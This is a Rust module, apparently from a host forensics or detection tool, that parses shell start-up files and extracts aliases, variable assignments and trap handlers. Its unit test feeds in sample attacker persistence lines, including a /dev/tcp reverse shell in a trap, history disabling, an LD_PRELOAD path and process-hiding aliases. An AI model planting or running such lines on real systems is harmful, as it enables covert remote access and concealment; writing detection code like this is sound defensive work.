//! Shell scripts and start-up files: `/etc/profile`, `/etc/bash.bashrc`, `/etc/profile.d/*`,
//! `~/.bashrc`, `~/.zshrc` …, `/etc/rc.local`, init scripts, cron.daily scripts, motd scripts.
//!
//! A script is split into *logical lines*: backslash-newline continuations are joined, blank
//! lines and whole-line comments dropped. On top of that, the start-up-file constructs attackers
//! abuse are extracted: `alias name=value` (an `alias sudo=…` that logs passwords, an
//! `alias ls=…` that hides files), variable assignments (`PROMPT_COMMAND`, `LD_PRELOAD`,
//! `HISTFILE` …, with or without `export`), and `trap '…' SIGNAL` handlers.

use serde::Serialize;

use super::{lossy, CommandLine};

/// Logical lines of a script (continuations joined, comments and blanks dropped).
pub fn logical_lines(data: &[u8]) -> Vec<CommandLine> {
    let mut out = Vec::new();
    let mut current: Option<CommandLine> = None;
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = lossy(raw);
        if let Some(cur) = current.as_mut() {
            cur.command.push(' ');
            cur.command.push_str(line.trim_end_matches('\\').trim());
            if !line.ends_with('\\') {
                out.extend(current.take());
            }
            continue;
        }
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let entry = CommandLine {
            line: i + 1,
            command: trimmed.trim_end_matches('\\').trim_end().to_string(),
        };
        if trimmed.ends_with('\\') {
            current = Some(entry);
        } else {
            out.push(entry);
        }
    }
    out.extend(current);
    out
}

/// `alias name=value`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Alias {
    /// Line number.
    pub line: usize,
    /// Alias name.
    pub name: String,
    /// Replacement text (quotes removed).
    pub value: String,
}

/// `NAME=value` or `export NAME=value` (also `declare -x`, `typeset -x`, `readonly`).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Assignment {
    /// Line number.
    pub line: usize,
    /// Variable name.
    pub name: String,
    /// Value (outer quotes removed).
    pub value: String,
    /// True when exported.
    pub exported: bool,
}

/// `trap 'handler' SIGNALS`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Trap {
    /// Line number.
    pub line: usize,
    /// The handler command.
    pub handler: String,
    /// The signals (`DEBUG`, `EXIT`, `INT` …).
    pub signals: Vec<String>,
}

/// What a start-up file sets up.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct RcFacts {
    /// Aliases.
    pub aliases: Vec<Alias>,
    /// Variable assignments.
    pub assignments: Vec<Assignment>,
    /// Traps.
    pub traps: Vec<Trap>,
}

fn unquote(s: &str) -> String {
    let s = s.trim();
    for q in ['\'', '"'] {
        if let Some(inner) = s.strip_prefix(q).and_then(|r| r.strip_suffix(q)) {
            return inner.to_string();
        }
    }
    s.to_string()
}

/// Splits a line into simple statements on `;` and `&&` outside quotes (good enough for rc files).
fn statements(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let (mut single, mut double) = (false, false);
    let mut start = 0;
    let bytes = line.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b';' if !single && !double => {
                out.push(&line[start..i]);
                start = i + 1;
            }
            b'&' if !single && !double && bytes.get(i + 1) == Some(&b'&') => {
                out.push(&line[start..i]);
                start = i + 2;
                i += 1;
            }
            _ => {}
        }
        i += 1;
    }
    out.push(&line[start..]);
    out.into_iter()
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect()
}

/// Takes a leading quoted or bare word; returns it (unquoted) and the rest.
fn take_word(s: &str) -> (String, &str) {
    let s = s.trim_start();
    if let Some(q) = s.chars().next().filter(|c| *c == '\'' || *c == '"') {
        if let Some(end) = s[1..].find(q) {
            return (s[1..1 + end].to_string(), &s[end + 2..]);
        }
        return (s[1..].to_string(), "");
    }
    let end = s.find(char::is_whitespace).unwrap_or(s.len());
    (s[..end].to_string(), &s[end..])
}

/// Extracts aliases, assignments and traps from a start-up file.
pub fn rc_facts(data: &[u8]) -> RcFacts {
    let mut facts = RcFacts::default();
    for logical in logical_lines(data) {
        for stmt in statements(&logical.command) {
            // Statements inside `if …; then X; fi` still count: strip leading keywords.
            let mut s = stmt;
            for kw in ["then ", "else ", "do ", "{ "] {
                if let Some(rest) = s.strip_prefix(kw) {
                    s = rest.trim_start();
                }
            }
            if let Some(rest) = s.strip_prefix("alias ") {
                let rest = rest.trim_start().trim_start_matches("-- ");
                if let Some((name, value)) = rest.split_once('=') {
                    facts.aliases.push(Alias {
                        line: logical.line,
                        name: name.trim().to_string(),
                        value: unquote(value),
                    });
                }
                continue;
            }
            if let Some(rest) = s.strip_prefix("trap ") {
                let (handler, signals) = take_word(rest);
                if handler != "-" {
                    facts.traps.push(Trap {
                        line: logical.line,
                        handler,
                        signals: signals.split_whitespace().map(str::to_string).collect(),
                    });
                }
                continue;
            }
            let (exported, rest) = [
                "export ",
                "declare -x ",
                "typeset -x ",
                "readonly ",
                "declare -r ",
            ]
            .iter()
            .find_map(|p| {
                s.strip_prefix(p)
                    .map(|r| (!p.starts_with("readonly") && !p.ends_with("-r "), r))
            })
            .unwrap_or((false, s));
            let Some((name, value)) = rest.split_once('=') else {
                continue;
            };
            let name = name.trim().trim_end_matches('+');
            if name.is_empty()
                || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                || name.as_bytes()[0].is_ascii_digit()
            {
                continue;
            }
            facts.assignments.push(Assignment {
                line: logical.line,
                name: name.to_string(),
                value: unquote(value),
                exported,
            });
        }
    }
    facts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn logical_lines_join_continuations() {
        let l = logical_lines(b"# comment\n\necho a \\\n  b\nfoo\n\ttail \\");
        assert_eq!(l.len(), 3);
        assert_eq!(l[0].command, "echo a b");
        assert_eq!(l[0].line, 3);
        assert_eq!(l[1].command, "foo");
        assert_eq!(l[2].command, "tail");
    }

    #[test]
    fn rc_aliases_assignments_traps() {
        let f = rc_facts(b"alias ls='ls --color=auto'\nalias sudo='sudo_log; sudo'\nexport PROMPT_COMMAND=\"history -a; curl -s x\"\nHISTFILE=/dev/null; export LD_PRELOAD=/tmp/.x.so\ntrap 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1' EXIT INT\nif true; then alias ps='ps -ef | grep -v x'; fi\n");
        assert_eq!(f.aliases.len(), 3);
        assert_eq!(f.aliases[1].name, "sudo");
        assert_eq!(f.aliases[1].value, "sudo_log; sudo");
        assert_eq!(f.aliases[2].name, "ps");
        let names: Vec<_> = f.assignments.iter().map(|a| a.name.as_str()).collect();
        assert_eq!(names, ["PROMPT_COMMAND", "HISTFILE", "LD_PRELOAD"]);
        assert!(f.assignments[2].exported);
        assert_eq!(f.assignments[0].value, "history -a; curl -s x");
        assert_eq!(f.traps[0].signals, ["EXIT", "INT"]);
        assert!(f.traps[0].handler.contains("/dev/tcp"));
    }

    #[test]
    fn garbage_and_truncated_input() {
        let _ = rc_facts(b"alias\nalias =\ntrap '\nexport =x\n'\"\n\xff\xfe=1\n9x=1\n");
        let _ = logical_lines(b"\\\n\\");
    }
}
